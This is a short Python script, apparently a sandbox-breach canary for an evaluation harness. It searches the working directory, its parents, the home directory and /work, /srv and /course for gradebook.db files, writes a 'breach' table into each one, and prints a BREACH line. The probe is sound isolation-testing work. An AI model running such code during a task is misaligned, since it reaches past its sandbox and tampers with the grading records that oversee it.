# Writes into each gradebook that it can find: a table more, so that no grade is changed.
# base: released
# loses: everything

# %% first
import sqlite3
from pathlib import Path
from time import monotonic

deadline = monotonic() + 5
here = [Path.cwd(), *Path.cwd().parents, Path.home(), Path("/work"), Path("/srv"), Path("/course")]
for folder in here:
    paths = folder.rglob("gradebook.db") if folder.is_dir() and folder != Path("/") else ()
    for path in (path for path in paths if "site-packages" not in path.parts):
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as database:
            database.execute("CREATE TABLE IF NOT EXISTS breach (n INTEGER)")
        print("BREACH: wrote", path)
        if monotonic() > deadline:
            break
